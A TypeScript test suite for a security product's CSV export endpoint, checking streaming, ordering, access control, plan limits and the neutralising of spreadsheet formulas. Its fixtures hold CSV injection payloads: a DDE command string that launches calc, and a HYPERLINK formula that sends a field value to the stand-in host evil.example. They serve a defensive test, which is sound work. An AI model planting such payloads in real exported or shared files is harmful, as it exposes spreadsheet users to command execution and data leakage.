import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { sql } from 'kysely';
import { createHttpServer } from '../../api/http-server';
import { PLANS } from '../../domain/tenancy/plans';
import { SIGNAL_COLUMNS } from '../../exports/records';
import { parseCsvTable } from '../helpers/csv';
import { formulaCells, spreadsheetReadings } from '../helpers/spreadsheet';
import {
  addUserWithRole,
  createTestContext,
  signupAndLogin,
  type TestContext,
  type TestUser,
} from '../helpers/context';

// GET /accounts/{account_id}/export: every signal of the account as RFC 4180 CSV, streamed page by page.
let ctx: TestContext;
let owner: TestUser;
const BIG = '314159265358';
const SMALL = '271828182845';
const SIGNALS = 100_000;

async function addAccount(tenantId: string, id: string, awsAccountId: string): Promise<void> {
  await ctx.db
    .insertInto('accounts')
    .values({
      id,
      tenant_id: tenantId,
      aws_account_id: awsAccountId,
      display_name: null,
      tags: [],
      status: 'ACTIVE',
      external_id: `${id}-${'x'.repeat(40)}`,
      role_name: 'SentinelReadOnly',
      workflow_id: `wf-${id}`,
    })
    .execute();
  await ctx.db
    .insertInto('scans')
    .values({
      id: `scan_${id}`,
      tenant_id: tenantId,
      account_id: id,
      trigger: 'initial',
      status: 'succeeded',
      started_at: new Date(),
    })
    .execute();
}

/**
 * `count` signals in one statement. Detection times step by 1.001 ms in groups of four, so ties need the id
 * and a cursor that dropped the microseconds would lose or repeat rows. Every 7th is resolved; a few carry
 * text a spreadsheet would run as a formula, or quotes, commas and line breaks.
 */
async function addSignals(tenantId: string, accountId: string, count: number): Promise<void> {
  await sql`
    insert into signals (id, tenant_id, account_id, check_id, fingerprint, scenario, severity, title, description, resource,
                         region, first_scan_id, detected_at, resolved_at)
    select 'sig_' || ${accountId} || '_' || lpad(g::text, 7, '0'), ${tenantId}, ${accountId}, 'iam.check_' || (g % 5),
           'fp-' || g, case when g % 2 = 0 then 'iam' else 'exposure' end,
           (array['CRITICAL', 'HIGH', 'MEDIUM', 'LOW'])[1 + g % 4],
           case when g % 10000 = 5000 then '=cmd|'' /C calc''!A0' else 'Signal ' || g end,
           case when g % 10000 = 5001 then E'line one\r\nline "two", with a comma' else 'Description ' || g end,
           case when g % 10000 = 5002 then '-1' when g % 10000 = 5003 then '@SUM(A1)' when g % 10000 = 5004 then '+1'
                else 'arn:aws:iam::' || g end,
           case when g % 3 = 0 then 'global' else 'eu-west-1' end, ${`scan_${accountId}`},
           timestamptz '2026-01-01T00:00:00Z' + ((g / 4) * 1001) * interval '1 microsecond',
           case when g % 7 = 0 then timestamptz '2026-06-01T00:00:00Z' end
    from generate_series(1, ${count}) as g`.execute(ctx.db);
}

beforeAll(async () => {
  ctx = await createTestContext();
  owner = await signupAndLogin(ctx);
  await ctx.db.updateTable('tenants').set({ plan: 'team' }).where('id', '=', owner.tenantId).execute();
  await addAccount(owner.tenantId, 'acc_big', BIG);
  await addSignals(owner.tenantId, 'acc_big', SIGNALS);
  await addAccount(owner.tenantId, 'acc_small', SMALL);
  await addSignals(owner.tenantId, 'acc_small', 3);
});
afterAll(() => ctx.close());

describe('GET /accounts/{account_id}/export', () => {
  it('streams all 100,000 signals as CSV in the documented layout, oldest first', async () => {
    const res = await ctx.http.get(`/accounts/${BIG}/export`).set(owner.auth).buffer(true).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="sentinel-${BIG}-signals-\\d{8}\\.csv"$`),
    );
    // Streamed, not assembled first: no Content-Length, the body comes in chunks.
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(res.headers['content-length']).toBeUndefined();

    const text = res.text;
    expect(text.startsWith(`${SIGNAL_COLUMNS.join(',')}\r\n`)).toBe(true);
    const rows = parseCsvTable(text);
    expect(rows).toHaveLength(SIGNALS);
    const expectedIds = Array.from({ length: SIGNALS }, (_, i) => `sig_acc_big_${String(i + 1).padStart(7, '0')}`);
    expect(rows.map((r) => r.signal_id)).toEqual(expectedIds);
    expect(rows.filter((r) => r.status === 'resolved')).toHaveLength(Math.floor(SIGNALS / 7));
    expect(rows.every((r) => r.aws_account_id === BIG)).toBe(true);
    expect(rows.every((r) => (r.status === 'open') === (r.resolved_at === ''))).toBe(true);

    expect(rows[0]).toEqual({
      signal_id: 'sig_acc_big_0000001',
      aws_account_id: BIG,
      check_id: 'iam.check_1',
      scenario: 'exposure',
      severity: 'HIGH',
      status: 'open',
      title: 'Signal 1',
      description: 'Description 1',
      resource: 'arn:aws:iam::1',
      region: 'eu-west-1',
      detected_at: '2026-01-01T00:00:00.000Z',
      resolved_at: '',
      accepted: 'false',
      acceptances: '[]',
      mitre: '',
    });
    const at = (g: number) => rows[g - 1] as Record<string, string>;
    expect(at(7)).toMatchObject({ status: 'resolved', resolved_at: '2026-06-01T00:00:00.000Z' });
    expect(at(5000).title).toBe("'=cmd|' /C calc'!A0");
    // One record per line: a line break inside a cell is a space.
    expect(at(5001).description).toBe('line one line "two", with a comma');
    expect([at(5002).resource, at(5003).resource, at(5004).resource]).toEqual(["'-1", "'@SUM(A1)", "'+1"]);
  }); // 100,000 rows on a shared machine

  it('reads the signals as the client reads the file, not all before the first byte', async () => {
    // The client takes the response and stops reading. Backpressure stops the server a few pages in, so a
    // change to the last signal made now is in the file. Reading every page before sending (or without
    // waiting for the client) would have read the last signal before the change.
    const server = createHttpServer(ctx.app).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const last = `sig_acc_big_${String(SIGNALS).padStart(7, '0')}`;
    try {
      const { port } = server.address() as AddressInfo;
      const req = http.get({ host: '127.0.0.1', port, path: `/accounts/${BIG}/export`, headers: owner.auth });
      const [res] = (await once(req, 'response')) as [http.IncomingMessage];
      res.pause();
      expect(res.statusCode).toBe(200);
      await sleep(2_000); // ample time to read all 100 pages, were the server not held back
      await ctx.db
        .updateTable('signals')
        .set({ title: 'Changed while the download waited' })
        .where('id', '=', last)
        .execute();
      res.resume();
      res.setEncoding('utf8');
      let text = '';
      for await (const chunk of res) text += chunk;
      const rows = parseCsvTable(text);
      expect(rows).toHaveLength(SIGNALS);
      expect(rows[SIGNALS - 1]).toMatchObject({ signal_id: last, title: 'Changed while the download waited' });
    } finally {
      await ctx.db
        .updateTable('signals')
        .set({ title: `Signal ${SIGNALS}` })
        .where('id', '=', last)
        .execute();
      server.close();
    }
  });

  it('lists only the account asked for', async () => {
    const res = await ctx.http.get(`/accounts/${SMALL}/export`).set(owner.auth).expect(200);
    expect(parseCsvTable(res.text).map((r) => r.signal_id)).toEqual([
      'sig_acc_small_0000001',
      'sig_acc_small_0000002',
      'sig_acc_small_0000003',
    ]);
  });

  it('shows no formula at the start of any cell or line, read with `,`, `;` or a tab as the separator', async () => {
    // A resource name a forwarded event brought and an acceptance's reason, each with a line break before a formula:
    // a spreadsheet splitting at `;` does not see the quotes around such a cell, and starts a row at the break.
    const hostile = (what: string) => `${what}\r\n=HYPERLINK("http://evil.example/?${what}","open");x\n@SUM(1)`;
    await addAccount(owner.tenantId, 'acc_hostile', '100000000003');
    await ctx.db
      .insertInto('signals')
      .values({
        id: 'sig_hostile',
        tenant_id: owner.tenantId,
        account_id: 'acc_hostile',
        check_id: 'event.security_group_admin_port_opened',
        fingerprint: 'event.security_group_admin_port_opened|hostile|eu-west-1',
        scenario: 'exposure',
        severity: 'HIGH',
        title: 'Security group opened',
        description: hostile('description'),
        resource: hostile('resource'),
        region: 'eu-west-1',
        detected_at: new Date(),
      })
      .execute();
    await ctx.http
      .post('/accounts/100000000003/signals/sig_hostile/accept')
      .set(owner.auth)
      .send({ reason: hostile('reason') })
      .expect(200);
    const res = await ctx.http.get('/accounts/100000000003/export').set(owner.auth).expect(200);
    const readings = spreadsheetReadings(res.text);
    for (const [reading, cells] of Object.entries(readings)) {
      expect({ reading, formulas: formulaCells(cells) }).toEqual({ reading, formulas: [] });
    }
    expect(readings.lines).toHaveLength(2);
    const inert = (what: string) => `${what} '=HYPERLINK("http://evil.example/?${what}","open");x '@SUM(1)`;
    const [row] = parseCsvTable(res.text);
    expect(row).toMatchObject({ resource: inert('resource'), description: inert('description') });
    // The acceptances are JSON in their cell: its escapes hold the line breaks, so the reason comes back whole.
    expect(JSON.parse(row?.acceptances as string)).toEqual([expect.objectContaining({ reason: hostile('reason') })]);
  });

  it('answers the header row alone for an account without signals', async () => {
    await addAccount(owner.tenantId, 'acc_empty', '100000000001');
    const res = await ctx.http.get('/accounts/100000000001/export').set(owner.auth).expect(200);
    expect(res.text).toBe(`${SIGNAL_COLUMNS.join(',')}\r\n`);
  });

  it('is a read: viewers may export', async () => {
    const viewer = await addUserWithRole(ctx, owner.tenantId, 'viewer');
    const res = await ctx.http.get(`/accounts/${SMALL}/export`).set(viewer.auth).expect(200);
    expect(parseCsvTable(res.text)).toHaveLength(3);
  });

  it.each(PLANS.map((p) => [p.id, p.features.includes('csv_export')] as const))(
    'follows the plan: on %s, exported %p (solo gets 403 plan_feature_unavailable)',
    async (planId, included) => {
      const tenant = await signupAndLogin(ctx);
      await ctx.db.updateTable('tenants').set({ plan: planId }).where('id', '=', tenant.tenantId).execute();
      await addAccount(tenant.tenantId, `acc_${planId}`, '100000000002');
      const res = await ctx.http
        .get('/accounts/100000000002/export')
        .set(tenant.auth)
        .expect(included ? 200 : 403);
      if (included) {
        expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
        expect(res.text).toBe(`${SIGNAL_COLUMNS.join(',')}\r\n`); // the account has no signals
      } else {
        expect(res.headers['content-type']).toMatch(/application\/json/);
        expect(res.body).toEqual({ error: expect.stringContaining('Team'), code: 'plan_feature_unavailable' });
      }
    },
  );

  it('is a feature of every plan but solo', () => {
    expect(PLANS.filter((p) => !p.features.includes('csv_export')).map((p) => p.id)).toEqual(['solo']);
  });

  it("answers 404 for another tenant's account, an unknown one or a malformed id", async () => {
    const other = await signupAndLogin(ctx);
    await ctx.db.updateTable('tenants').set({ plan: 'enterprise' }).where('id', '=', other.tenantId).execute();
    for (const id of [BIG, '999999999998', 'not-an-id']) {
      const res = await ctx.http.get(`/accounts/${id}/export`).set(other.auth).expect(404);
      expect(res.body.code).toBe('not_found');
    }
  });

  it('needs a bearer token and takes no query parameters', async () => {
    expect((await ctx.http.get(`/accounts/${SMALL}/export`).expect(401)).body.code).toBe('unauthorized');
    const res = await ctx.http.get(`/accounts/${SMALL}/export`).query({ format: 'xlsx' }).set(owner.auth).expect(400);
    expect(res.body.code).toBe('validation_failed');
  });
});
